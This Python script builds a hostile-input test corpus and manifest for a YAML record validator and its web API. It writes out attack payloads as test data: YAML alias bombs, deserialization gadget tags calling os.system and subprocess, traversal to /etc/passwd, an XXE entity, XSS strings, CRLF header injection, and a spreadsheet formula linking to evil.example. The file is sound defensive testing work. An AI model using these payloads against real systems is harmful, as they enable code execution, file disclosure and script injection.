#!/usr/bin/env python3
"""Writes the hostile-input corpus (tests/data/hostile/*) and its manifest.tsv.

The corpus is committed; this script is how it was made, kept so that byte-level cases (broken
UTF-8, NUL, BOMs) can be regenerated and reviewed as code rather than as opaque bytes. Run it
from anywhere: `python3 tests/data/hostile/make_corpus.py`. Cases too large to commit (a 1 MB
line, 100 MB, too many values) are listed in the manifest as `gen:NAME` and built by the test
(tests/web/integration/hostile_corpus.cpp) at run time.

Manifest columns (tab-separated; `-` means "none"):
  file         a file in this folder, or gen:NAME
  category     yaml | encoding | size | schema | markup
  attack       what the case attacks, in a few words
  cli_exit     exit status of `candor check FILE`
  problem      the problem code both the CLI and the HTTP 422 body must name (or -)
  http_status  status of POST /api/v1/records with a valid submitter token
  http_error   error.code of that answer (or - for an accepted record)
"""
import os
import re

HERE = os.path.dirname(os.path.abspath(__file__))
BASE_FILE = os.path.join(HERE, "..", "..", "..", "schemas", "examples", "valid",
                         "northshire-police--footage-redaction.yaml")

with open(BASE_FILE, "rb") as f:
    _base = f.read()
# Drop the example's header comments ("# Illustrates", "# expect-fail").
BASE = b"".join(l for l in _base.splitlines(keepends=True) if not l.startswith(b"#"))


def record(record_id, replace=None, append=b""):
    """The valid base record with id `record_id`, `replace` ({old: new} on bytes) applied."""
    body = BASE.replace(b"id: footage-redaction\n", b"id: " + record_id.encode() + b"\n", 1)
    for old, new in (replace or {}).items():
        assert old in body, old
        body = body.replace(old, new, 1)
    return body + append


TOOL_NAME = b"name: Video redaction assistant\n"
SUMMARY = b"description_public: >-\n"

cases = []  # (file, category, attack, cli_exit, problem, http_status, http_error, content)


def add(file, category, attack, cli_exit, problem, http_status, http_error, content=None):
    cases.append((file, category, attack, cli_exit, problem, http_status, http_error, content))


def accepted(file, category, attack, content):
    """A valid record the register takes (201, exit 0) although its text is unusual."""
    add(file, category, attack, 0, "-", 201, "-", content)


def rejected(file, category, attack, problem, content, cli_exit=2):
    add(file, category, attack, cli_exit, problem, 422, "record.invalid", content)


# ---- YAML structure: expansion, depth, features a record never needs --------------------------
laughs = [b"l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
for i in range(1, 10):
    laughs.append(b"l%d: &l%d [" % (i, i) + b", ".join([b"*l%d" % (i - 1)] * 10) + b"]")
rejected("billion-laughs.yaml", "yaml-structure", "billion laughs: 10^9 nodes by nested aliases",
         "yaml.alias-limit", b"\n".join(laughs) + b"\n")

quad = [b"big: &big [" + b", ".join([b"x"] * 2000) + b"]"]
quad.append(b"refs: [" + b", ".join([b"*big"] * 2000) + b"]")
rejected("quadratic-alias.yaml", "yaml-structure", "quadratic blow-up: 2,000 aliases of a 2,000-item list",
         "yaml.alias-limit", b"\n".join(quad) + b"\n")

rejected("nest-flow-seq-10000.yaml", "yaml-structure", "10,000 nested flow sequences",
         "yaml.too-deep", b"x: " + b"[" * 10000 + b"]" * 10000 + b"\n")
rejected("nest-flow-map-10000.yaml", "yaml-structure", "10,000 nested flow mappings",
         "yaml.too-deep", b"x: " + b"{a: " * 10000 + b"1" + b"}" * 10000 + b"\n")
rejected("nest-block-seq-10000.yaml", "yaml-structure", "10,000 nested block sequences (compact form)",
         "yaml.too-deep", b"- " * 10000 + b"x\n")
# Block mappings need indentation, quadratic in depth: 10,000 levels at one space each is 50 MB,
# so this case nests 10,000 levels through compact sequences inside a block mapping.
rejected("nest-block-map-10000.yaml", "yaml-structure", "block mapping holding 10,000 nested block levels",
         "yaml.too-deep", b"x:\n  y:\n    " + b"- " * 10000 + b"z\n")
rejected("nest-unclosed-10000.yaml", "yaml-structure", "10,000 unclosed flow brackets",
         "yaml.too-deep", b"x: " + b"[" * 10000 + b"\n")
rejected("alias-cycle.yaml", "yaml-structure", "an alias inside the node it names",
         "yaml.alias-cycle", b"a: &a\n  b: *a\n")
rejected("alias-undefined.yaml", "yaml-structure", "alias to an anchor never defined",
         "yaml.syntax", b"schema: *nowhere\n")
rejected("alias-as-key.yaml", "yaml-structure", "an alias used as a mapping key",
         "yaml.complex-key", b"k: &k key\n*k : value\n")
rejected("anchor-on-key.yaml", "yaml-syntax", "an anchor on a key, reused as a value",
         "yaml.complex-key", record("anchor-on-key", append=b"&k extra: 1\nagain: *k\n"))
rejected("complex-key.yaml", "yaml-structure", "a mapping used as a key",
         "yaml.complex-key", b"? {a: 1}\n: value\n")
rejected("merge-key.yaml", "yaml-structure", "merge key << pulling in another mapping",
         "yaml.merge-key",
         record("merge-key", {b"organisation:\n": b"defaults: &d {team: x}\norganisation:\n  <<: *d\n"}))
rejected("merge-key-list.yaml", "yaml-structure", "merge key with a list of aliases",
         "yaml.merge-key", b"a: &a {x: 1}\nb: &b {y: 2}\nc:\n  <<: [*a, *b]\n")
rejected("tag-python-object.yaml", "yaml-structure", "!!python/object constructor tag",
         "yaml.tag", record("tag-python", {TOOL_NAME: b"name: !!python/object:os.system [\"id\"]\n"}))
rejected("tag-python-apply.yaml", "yaml-structure", "!!python/object/apply with arguments",
         "yaml.tag", b"x: !!python/object/apply:subprocess.check_output [[ls]]\n")
rejected("tag-ruby.yaml", "yaml-structure", "!ruby/object local tag", "yaml.tag",
         b"x: !ruby/object:Gem::Installer {i: x}\n")
rejected("tag-java.yaml", "yaml-structure", "!!javax.script.ScriptEngineManager (SnakeYAML gadget)",
         "yaml.tag", b"x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n")
rejected("tag-binary.yaml", "yaml-structure", "!!binary value", "yaml.tag", b"x: !!binary aGVsbG8=\n")
rejected("tag-on-key.yaml", "yaml-structure", "a tag on a key", "yaml.tag", b"!!python/name:os.system x: 1\n")
rejected("tag-directive.yaml", "yaml-structure", "%TAG directive redefining !!", "yaml.tag",
         b"%TAG !! tag:evil.example,2024:\n---\nx: !!str y\n")
rejected("duplicate-key-top.yaml", "yaml-syntax", "duplicate top-level key (id twice)",
         "yaml.duplicate-key", record("dup-top", append=b"id: someone-elses-record\n"))
rejected("duplicate-key-nested.yaml", "yaml-syntax", "duplicate nested key (organisation.id twice)",
         "yaml.duplicate-key",
         record("dup-nested", {b"  id: northshire-police\n": b"  id: northshire-police\n  id: eastbridge-council\n"}))
rejected("duplicate-key-quoted.yaml", "yaml-syntax", "duplicate key spelled plain and quoted",
         "yaml.duplicate-key", record("dup-quoted", append=b"\"phase\": retired\n"))
rejected("multi-document.yaml", "yaml-syntax", "a second YAML document after ---",
         "yaml.multi-document", record("multi-doc", append=b"---\nschema: candor.record/v1\n"))
# yaml-cpp ends a double-quoted string left open at the end of the file: the rest of the file
# becomes its value, and the schema then refuses the record (not located at the quote).
rejected("unclosed-quote.yaml", "yaml-syntax", "a quoted string never closed",
         "schema.unknown-field", b"x: \"never closed\ny: 1\n", cli_exit=1)
rejected("unclosed-flow-map.yaml", "yaml-syntax", "a flow mapping never closed",
         "yaml.syntax", b"x: {a: 1, b: 2\ny: 1\n")
rejected("tab-indent.yaml", "yaml-syntax", "a tab used for indentation",
         "yaml.syntax", b"x:\n\ty: 1\n")
rejected("empty.yaml", "yaml-syntax", "an empty file", "yaml.empty", b"")
rejected("comments-only.yaml", "yaml-syntax", "only comments", "yaml.empty", b"# nothing\n# here\n")
rejected("top-level-scalar.yaml", "yaml-syntax", "a plain string instead of a record",
         "schema.type", b"just a string\n", cli_exit=1)
rejected("top-level-list.yaml", "yaml-syntax", "a list instead of a record",
         "schema.type", b"- schema: candor.record/v1\n", cli_exit=1)
rejected("boolean-yes.yaml", "yaml-syntax", "YAML 1.1 'yes' where a boolean is meant",
         "schema.boolean-literal", record("bool-yes", {b"interacts_with_public: false": b"interacts_with_public: yes"}),
         cli_exit=1)
add("gen:many-values", "yaml-structure", "200,001 values in one flow list (under 1 MiB)",
    2, "yaml.too-many-nodes", 422, "record.invalid")

# ---- Encoding -------------------------------------------------------------------------------
def with_name(record_id, raw):
    return record(record_id, {TOOL_NAME: b"name: Video " + raw + b" assistant\n"})


rejected("utf8-truncated-end.yaml", "encoding", "UTF-8 sequence cut off at the end of the file",
         "yaml.invalid-utf8", record("utf8-trunc-end", append=b"x: \xe2\x82"))
rejected("utf8-truncated-mid.yaml", "encoding", "UTF-8 sequence cut off inside a value",
         "yaml.invalid-utf8", with_name("utf8-trunc-mid", b"\xe2\x82 redaction"))
rejected("utf8-overlong-slash.yaml", "encoding", "overlong 2-byte '/' (C0 AF)",
         "yaml.invalid-utf8", with_name("utf8-overlong-slash", b"..\xc0\xaf..\xc0\xafetc"))
rejected("utf8-overlong-nul.yaml", "encoding", "overlong NUL (C0 80, 'modified UTF-8')",
         "yaml.invalid-utf8", with_name("utf8-overlong-nul", b"\xc0\x80"))
rejected("utf8-overlong-3byte.yaml", "encoding", "overlong 3-byte '/' (E0 80 AF)",
         "yaml.invalid-utf8", with_name("utf8-overlong-3", b"\xe0\x80\xaf"))
rejected("utf8-overlong-4byte.yaml", "encoding", "overlong 4-byte 'A' (F0 80 81 81)",
         "yaml.invalid-utf8", with_name("utf8-overlong-4", b"\xf0\x80\x81\x81"))
rejected("utf8-surrogate.yaml", "encoding", "UTF-16 surrogate encoded in UTF-8 (ED A0 80)",
         "yaml.invalid-utf8", with_name("utf8-surrogate", b"\xed\xa0\x80"))
rejected("utf8-above-max.yaml", "encoding", "code point above U+10FFFF (F4 90 80 80)",
         "yaml.invalid-utf8", with_name("utf8-above", b"\xf4\x90\x80\x80"))
rejected("utf8-lone-continuation.yaml", "encoding", "lone continuation byte 0x80",
         "yaml.invalid-utf8", with_name("utf8-lone", b"\x80"))
rejected("utf8-latin1.yaml", "encoding", "Latin-1 byte (E9) in a value",
         "yaml.invalid-utf8", with_name("utf8-latin1", b"caf\xe9"))
rejected("utf8-ff-byte.yaml", "encoding", "byte FF, never valid in UTF-8",
         "yaml.invalid-utf8", with_name("utf8-ff", b"\xff\xfe"))
rejected("nul-in-value.yaml", "encoding", "NUL byte inside a value",
         "yaml.nul-byte", with_name("nul-value", b"red\x00action"))
rejected("nul-first-byte.yaml", "encoding", "NUL as the first byte",
         "yaml.nul-byte", b"\x00" + record("nul-first"))
rejected("nul-in-key.yaml", "encoding", "NUL byte inside a key",
         "yaml.nul-byte", record("nul-key", append=b"ph\x00ase: pilot\n"))
rejected("bom-middle.yaml", "encoding", "byte-order mark in the middle of the file",
         "yaml.bom", record("bom-middle", {b"phase: production\n": b"\xef\xbb\xbfphase: production\n"}))
rejected("bom-in-value.yaml", "encoding", "byte-order mark inside a value",
         "yaml.bom", with_name("bom-value", b"\xef\xbb\xbf"))
rejected("utf16le-bom.yaml", "encoding", "a UTF-16 LE file (FF FE BOM)",
         "yaml.invalid-utf8", b"\xff\xfe" + "schema: x\n".encode("utf-16-le"))
accepted("control-escape.yaml", "encoding", "terminal escape sequence (ESC [31m) in a value",
         with_name("ctl-escape", b"\x1b[31mred\x1b[0m"))
accepted("control-backspace.yaml", "encoding", "backspaces hiding text (08)",
         with_name("ctl-bs", b"safe\x08\x08\x08\x08evil"))
accepted("control-escaped.yaml", "encoding", "an ESC made by the escape \\e in a quoted value",
         record("ctl-escaped", {TOOL_NAME: b"name: \"Video \\e]0;owned\\a assistant\"\n"}))
accepted("control-nul-escape.yaml", "encoding", "a NUL made by the escape \\0 in a quoted value",
         record("ctl-nul-escaped", {TOOL_NAME: b"name: \"Video red\\0action\"\n"}))
accepted("noncharacter-fffe.yaml", "encoding", "U+FFFE, which XML cannot carry",
         with_name("nonchar", b"\xef\xbf\xbe"))
add("gen:line-1mb", "size", "a 1,000,000-byte single line (under the 1 MiB limit)",
    1, "schema.unknown-field", 422, "record.invalid")
add("gen:over-limit", "size", "1 MiB + 1 byte", 2, "yaml.too-large", 413, "payload_too_large")
add("gen:body-100mb", "size", "a 100 MB body (written at test time)",
    2, "yaml.too-large", 413, "payload_too_large")

# ---- Schema: well-formed YAML that is not a record -----------------------------------------
rejected("schema-unknown-key.yaml", "schema", "an unknown top-level key (__proto__)",
         "schema.unknown-field", record("unknown-key", append=b"__proto__: {admin: true}\n"), cli_exit=1)
rejected("schema-wrong-id.yaml", "schema", "schema id of another format",
         "schema.const", record("wrong-schema", {b"schema: candor.record/v1": b"schema: candor.record/v999"}), cli_exit=1)
rejected("schema-id-traversal.yaml", "schema", "record id ../../etc/passwd",
         "schema.pattern", record("x", {b"id: x\n": b"id: ../../etc/passwd\n"}), cli_exit=1)
rejected("schema-org-traversal.yaml", "schema", "organisation id with %2e%2e/ and slashes",
         "schema.pattern", record("org-traversal", {b"  id: northshire-police\n": b"  id: \"%2e%2e/admin\"\n"}), cli_exit=1)
rejected("schema-id-script.yaml", "schema", "record id holding <script>",
         "schema.pattern", record("x", {b"id: x\n": b"id: \"<script>alert(1)</script>\"\n"}), cli_exit=1)
rejected("schema-javascript-url.yaml", "schema", "javascript: URL in a link field",
         "schema.url", record("js-url", {b"  url: https://www.northshire.police.example/about-us/ai/video-redaction":
                                              b"  url: \"javascript:alert(document.cookie)\""}), cli_exit=1)
rejected("schema-data-url.yaml", "schema", "data: URL in a link field",
         "schema.url", record("data-url", {b"  notice_url: https://www.northshire.police.example/privacy/disclosure":
                                                b"  notice_url: \"data:text/html,<script>alert(1)</script>\""}), cli_exit=1)
rejected("schema-email-crlf.yaml", "schema", "CR LF header injection in an e-mail field",
         "schema.email", record("email-crlf", {b"  email: information.rights@northshire.police.example":
                                                 b"  email: \"a@b.example\\r\\nBcc: victim@example.com\""}), cli_exit=1)
rejected("schema-number-huge.yaml", "schema", "integer with 400 digits",
         "schema.range", record("num-huge", {b"  level: 2": b"  level: " + b"9" * 400}), cli_exit=1)
# YAML limits implicit keys to 1,024 characters: a syntax error at the key's end.
rejected("schema-long-key.yaml", "schema", "a 10,000-character key",
         "yaml.syntax", record("long-key", append=b"k" * 10000 + b": 1\n"))
rejected("schema-missing-all.yaml", "schema", "an empty mapping", "schema.required", b"{}\n", cli_exit=1)

# ---- Markup: valid records whose text carries HTML, JS, SVG; accepted, shown escaped --------
def markup(file, attack, payload, where=TOOL_NAME):
    rid = file[: -len(".yaml")]
    if where == TOOL_NAME:
        content = record(rid, {TOOL_NAME: b"name: " + payload + b"\n"})
    else:
        content = record(rid, {SUMMARY + b"    When": SUMMARY + b"    " + payload + b" When"})
    add(file, "markup", attack, 0, "-", 201, "-", content)


markup("markup-script.yaml", "<script> in the tool name", b"'Redaction <script>alert(\"xss-script\")</script>'")
markup("markup-img-onerror.yaml", "<img onerror> in the tool name", b"'Redaction <img src=x onerror=alert(1)>'")
markup("markup-svg-onload.yaml", "<svg onload> in the summary", b"<svg/onload=alert('xss-svg')>", where=SUMMARY)
markup("markup-attribute-break.yaml", "quote breaking out of an attribute",
       b"'Redaction \" onmouseover=\"alert(1)\" x=\"'")
markup("markup-javascript-text.yaml", "javascript: link text in the summary",
       b"<a href=\"javascript:alert('xss-href')\">click</a>", where=SUMMARY)
markup("markup-close-title.yaml", "closing </title> and </textarea> then a script",
       b"'Redaction </title></textarea><script>alert(2)</script>'")
markup("markup-mustache.yaml", "mustache template syntax {{{x}}} and {{#x}}",
       b"'Redaction {{{title}}} {{#nav_home}}x{{/nav_home}}'")
markup("markup-xml-cdata.yaml", "]]> and <!ENTITY> for the Atom feeds",
       b"'Redaction ]]><!ENTITY x SYSTEM \"file:///etc/passwd\">&x;'")
markup("markup-iframe.yaml", "<iframe srcdoc> in the summary",
       b"<iframe srcdoc=\"<script>alert(3)</script>\"></iframe>", where=SUMMARY)
markup("markup-style.yaml", "<style> and CSS expression",
       b"'Redaction <style>body{background:url(javascript:alert(4))}</style>'")
markup("markup-formula.yaml", "spreadsheet formula =HYPERLINK(...)",
       b"'=HYPERLINK(\"http://evil.example/\",\"Redaction\")'")
markup("markup-bidi.yaml", "right-to-left override and zero-width characters",
       "'Redaction \u202etxt.exe\u200b'".encode())

# ---- Finer categories: each is one test case, kept short ----------------------------------------
def refine(file, category):
    if category == "yaml-structure":
        expansion = file.startswith(("billion", "quadratic", "nest-")) or file == "gen:many-values"
        return "yaml-expansion" if expansion else "yaml-features"
    if category == "encoding":
        return "utf8" if file.startswith("utf") else "bytes"
    return category


cases = [(c[0], refine(c[0], c[1])) + c[2:] for c in cases]

# ---- Write -------------------------------------------------------------------------------------
for name in os.listdir(HERE):
    if name.endswith(".yaml"):
        os.remove(os.path.join(HERE, name))
with open(os.path.join(HERE, "manifest.tsv"), "w", encoding="utf-8") as m:
    m.write("# Written by make_corpus.py; see its header for the columns.\n")
    m.write("# file\tcategory\tattack\tcli_exit\tproblem\thttp_status\thttp_error\n")
    for file, category, attack, cli_exit, problem, status, error, content in cases:
        assert "\t" not in attack
        if content is not None:
            with open(os.path.join(HERE, file), "wb") as f:
                f.write(content)
        m.write(f"{file}\t{category}\t{attack}\t{cli_exit}\t{problem}\t{status}\t{error}\n")
print(f"{len(cases)} cases")
